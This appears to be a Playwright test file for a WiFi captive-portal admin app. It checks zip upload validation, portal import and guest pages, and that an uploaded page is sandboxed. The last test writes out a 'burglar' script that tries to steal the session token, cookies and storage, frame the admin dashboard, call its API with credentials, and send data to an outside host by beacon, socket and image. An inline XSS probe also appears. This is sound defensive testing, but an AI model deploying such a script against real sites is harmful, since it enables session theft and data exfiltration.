// Custom portals: a zip of pages is refused with reasons, corrected, imported and shown to guests; and a malicious page gets nothing
// from the admin app.
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { messages } from '#contract/messages.ts'
import { expect, test } from '#test/journeys/fixtures.ts'
import { ask, enter, operatorToken, type Foyer } from '#test/journeys/people.ts'
import { expectAccessible, expectFitting } from '#test/journeys/watch.ts'
import { sample } from '#test/proofs/proof.ts'
import { formOf, aFile } from '#test/uploads.ts'
import { aPage, aPortalZip, aZip } from '#test/zips.ts'

const person = { email: 'pia@pages.example', name: 'Pia Page', company_name: 'Pages & Sons' }

const zipped = (buffer: Buffer) => ({ name: 'lobby.zip', mimeType: 'application/zip', buffer })

async function imported(foyer: Foyer, token: string, name: string, zip: Buffer, auth_method_ids = [2, 3]) {
  const response = await fetch(`${foyer.url}/api/v1/custom-portals-create`, {
    method: 'POST',
    headers: { 'App-Context': 'customer', Authorization: `Bearer ${token}` },
    body: formOf({ name, auth_method_ids, portal: aFile('portal.zip', zip) }),
  })
  const { data } = (await response.json()) as { data: { id: number; url: string } }
  return data
}

/** Chooses a zip, and sends it. */
async function send(page: Page, zip: Buffer) {
  const dialog = page.getByRole('dialog')
  await dialog.locator('input[type=file]').first().setInputFiles(zipped(zip))
  await dialog.getByRole('button', { name: 'Upload' }).click()
}

for (const width of sample([390, 1440], 1))
  test(`a zip is refused with reasons, corrected, imported and shown, at ${width} px`, async ({ page, foyer }) => {
    test.setTimeout(120_000)
    const token = await operatorToken(foyer, person)
    await page.setViewportSize({ width, height: 900 })
    await enter(page, token)
    await page.goto('/customer/portals')
    await page.getByRole('button', { name: 'Import portal' }).click()
    const dialog = page.getByRole('dialog')
    const upload = dialog.getByRole('button', { name: 'Upload' })
    await expect(upload).toBeDisabled()

    // Other types of files are not even sent.
    const input = dialog.locator('input[type=file]').first()
    await input.setInputFiles({ name: 'lobby.pdf', mimeType: 'application/pdf', buffer: Buffer.from('x') })
    await expect(dialog.getByText(messages.portal.zipOnly)).toBeVisible()
    await expect(upload).toBeDisabled()

    const wrong = aZip([
      { name: 'index.html', content: aPage('<script>alert(1)</script><img src="logo.png">') },
      { name: 'run.php' },
    ])
    await send(page, wrong)
    await expect(dialog.getByText(messages.portal.nameRequired)).toBeVisible()
    await expect(dialog.getByText(messages.portal.authMethodRequired)).toBeVisible()
    const name = `Lobby ${width}`
    await dialog.getByRole('textbox', { name: 'Name' }).fill(name)
    await dialog.getByLabel('Voucher', { exact: true }).check()
    await upload.click()
    await expect(page.getByText(messages.imports.failed)).toBeVisible()
    const reasons = dialog.getByRole('list', { name: 'What is wrong' }).getByRole('listitem')
    await expect(reasons).toHaveText([
      /^run\.php is of a type that pages for guests cannot have: \.php/,
      'index.html has a script inside the page (line 1). Put it into a .js file: no other script runs.',
      'index.html names logo.png, which is not in the zip.',
    ])
    await expect(upload).toBeDisabled()
    await expectAccessible(page)
    await expectFitting(page)

    await send(page, aPortalZip({ name: 'more.html', content: aPage('<p>More of it</p>') }))
    await expect(page.getByText(messages.portal.imported)).toBeVisible()
    await expect(dialog).toHaveCount(0)
    await expect(page).toHaveURL(/\/customer\/portals$/)
    await expect(page.getByText(name, { exact: true }).first()).toBeVisible()

    // As a guest sees it.
    const { data } = await ask(foyer, '/portals', { searchValue: name }, token)
    const [portal] = data as unknown as { id: number; url: string }[]
    await page.goto(portal?.url ?? '')
    await expect(page.getByRole('heading', { name: 'Sign in to join WiFi' })).toBeVisible()
    await expect(page.getByLabel('Voucher code')).toBeDisabled()
    await page.goto(`${page.url()}more.html`)
    await expect(page.getByText('More of it')).toBeVisible()

    // The pages are replaced; a name in use is reported at its field.
    await page.goto(`${foyer.url}/customer/portals?modal=import-portal&portal_id=${portal?.id}`)
    await expect(page.getByRole('dialog')).toContainText(`Import pages of “${name}”`)
    await send(page, aZip([{ name: 'index.html', content: aPage('<p>Second edition</p>') }]))
    await expect(page.getByText(messages.portal.imported)).toBeVisible()
    await page.goto(portal?.url ?? '')
    await expect(page.getByText('Second edition')).toBeVisible()
    await page.goto(`${foyer.url}/customer/portals?modal=import-portal`)
    await dialog.getByRole('textbox', { name: 'Name' }).fill(name)
    await dialog.getByLabel('Voucher', { exact: true }).check()
    await send(page, aPortalZip())
    await expect(dialog.getByText(messages.portal.exists)).toBeVisible()
  })

test('the sample can be downloaded, and imported as it is', async ({ page, foyer }) => {
  const token = await operatorToken(foyer, person)
  await enter(page, token)
  await page.goto('/customer/portals?modal=import-portal')
  const waiting = page.waitForEvent('download')
  await page.getByRole('dialog').getByRole('link', { name: 'Sample portal' }).click()
  const download = await waiting
  expect(download.suggestedFilename()).toBe('portal.zip')
  const response = await fetch(`${foyer.url}/files/portal.zip`)
  const errors: string[] = []
  page.on('console', (message) => message.type() === 'error' && errors.push(message.text()))
  page.on('pageerror', (error) => errors.push(error.message))
  const { url } = await imported(foyer, token, 'The sample', Buffer.from(await response.arrayBuffer()))
  await page.setViewportSize({ width: 390, height: 844 })
  for (const at of [url, `${url}/help.html`]) {
    await page.goto(at)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    // Checked before axe runs, which causes errors in a sandbox.
    expect(errors.splice(0)).toEqual([])
    await expectAccessible(page)
    errors.length = 0
    await expectFitting(page)
  }
})

test('on the sample, too, who types a code and then chooses free access gets that', async ({ page, foyer }) => {
  const token = await operatorToken(foyer, person)
  const make = async (call: string, body: object) => (await ask(foyer, call, body, token)).data
  const zip = await fetch(`${foyer.url}/files/portal.zip`)
  const portal = await imported(foyer, token, 'Choices', Buffer.from(await zip.arrayBuffer()), [1, 2])
  const place = { address: 'Quay 1', city: 'Bath', country_id: 1, property_type_id: 1, connectivity_type_id: 1 }
  const property = await make('/properties-create', { name: 'Choices', ...place, portal_id: portal.id })
  const host = 'hotspot.choices.example'
  const box = { gateway_type_id: 13, property_id: property['id'], dns_name: host, mac_address: '02:00:5e:00:02:01' }
  const gateway = await make('/gateways-create', box)
  await page.route(`http://${host}/**`, (route) => route.fulfill({ body: 'let in' }))
  await page.goto(`${portal.url}?nasid=${String(gateway['nas_identifier'])}&client_mac=00-00-5e-00-53-77`)
  await page.getByRole('radio', { name: 'Voucher' }).check()
  await page.getByRole('textbox', { name: 'Voucher code' }).fill('ABCD')
  await page.getByRole('radio', { name: 'Free access' }).check()
  await page.getByRole('button', { name: 'Connect' }).click()
  await expect(page.getByText('let in')).toBeVisible()
})

/** A script that attacks the admin app, and writes its results into the page. Requests to `elsewhere` are recorded. */
const burglar = (admin: string, guests: string, elsewhere: string) => `
const got = {}
const attempt = async (name, work) => {
  try { got[name] = String(await work()) } catch (error) { got[name] = 'nothing' }
}
const framed = (address) => new Promise((resolve, reject) => {
  const frame = Object.assign(document.createElement('iframe'), { src: address })
  frame.onload = () => { try { resolve(frame.contentDocument.body.innerHTML) } catch (error) { reject(error) } }
  setTimeout(() => reject(new Error('never loaded')), 1500)
  document.body.append(frame)
})
const attempts = async () => {
  await attempt('origin', () => origin)
  await attempt('cookie', () => { document.cookie = 'a=1'; return document.cookie })
  await attempt('localStorage', () => localStorage.length)
  await attempt('sessionStorage', () => sessionStorage.getItem('foyer-session'))
  await attempt('indexedDB', () => new Promise((yes, no) => {
    const asked = indexedDB.open('a'); asked.onsuccess = () => yes('opened'); asked.onerror = no
  }))
  await attempt('caches', () => caches.keys())
  await attempt('opener', () => { if (!opener) throw new Error(); return opener.location.href })
  await attempt('window', () => { if (!open('${admin}/customer/dashboard')) throw new Error(); return 'opened' })
  await attempt('frame', () => framed('${admin}/customer/dashboard'))
  await attempt('own frame', () => framed('${guests}/'))
  await attempt('api', async () => (await fetch('${admin}/api/v1/auth/me', { method: 'POST' })).status)
  await attempt('api with cookies', async () =>
    (await fetch('${admin}/api/v1/auth/me', { method: 'POST', credentials: 'include', mode: 'no-cors' })).type)
  // The call returns at once; whether it was sent is recorded outside.
  await attempt('beacon', () => { navigator.sendBeacon('${elsewhere}/beacon', 'x'); throw new Error() })
  await attempt('socket', () => new Promise((yes, no) => {
    const socket = new WebSocket('${elsewhere.replace('http', 'ws')}/socket'); socket.onopen = yes; socket.onerror = no
  }))
  await attempt('worker', () => navigator.serviceWorker.register('burglar.js'))
  await attempt('script of another', () => new Promise((yes, no) => {
    const script = Object.assign(document.createElement('script'), { src: '${admin}/api/v1/openapi.json', onload: yes, onerror: no })
    document.body.append(script)
  }))
  await attempt('picture of another', () => new Promise((yes, no) => {
    const picture = new Image(); picture.onload = yes; picture.onerror = no; picture.src = '${elsewhere}/picture?secret'
  }))
  await attempt('code from text', () => (0, eval)('1 + 1'))
  await attempt('channel', () => new Promise((yes, no) => {
    const channel = new BroadcastChannel('foyer-session'); channel.onmessage = yes
    channel.postMessage('ask'); setTimeout(no, 500)
  }))
}
attempts().then(() => { document.getElementById('got').textContent = JSON.stringify(got) })
`

test('a page that attacks the admin app gets nothing', async ({ page, context, foyer }) => {
  test.setTimeout(120_000)
  const token = await operatorToken(foyer, { ...person, email: 'bea@pages.example', company_name: 'Burgled' })
  await enter(page, token)
  await page.goto('/customer/dashboard')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const received: string[] = []
  const recorder = http.createServer((request, response) => {
    received.push(String(request.url))
    response.end()
  })
  await new Promise<void>((listening) => recorder.listen(0, '127.0.0.1', listening))
  const elsewhere = `http://127.0.0.1:${(recorder.address() as AddressInfo).port}`
  const guests = await context.newPage()
  const { data } = await ask(foyer, '/portals', {}, token)
  const [standard] = data as unknown as { url: string }[]
  const origin = new URL(standard?.url ?? '').origin
  const zip = aZip([
    { name: 'index.html', content: aPage('<pre id="got"></pre><script src="burglar.js" defer></script>') },
    { name: 'burglar.js', content: burglar(foyer.url, origin, elsewhere) },
  ])
  await guests.goto((await imported(foyer, token, 'Burglar', zip)).url)
  await expect(guests.locator('#got')).not.toBeEmpty({ timeout: 30_000 })
  const got = JSON.parse((await guests.locator('#got').textContent()) ?? '') as Record<string, string>
  const { origin: own, ...rest } = got
  expect(own).toBe('null')
  expect(Object.keys(rest)).toHaveLength(18)
  expect(Object.entries(rest).filter(([, result]) => result !== 'nothing')).toEqual([])
  recorder.close()
  expect(received).toEqual([])
  expect(context.pages()).toHaveLength(2)
  // The session is unchanged.
  expect((await ask(foyer, '/auth/me', {}, token)).status).toBe(200)
  expect(await page.evaluate(() => sessionStorage.getItem('foyer-session'))).toBe(token)
})
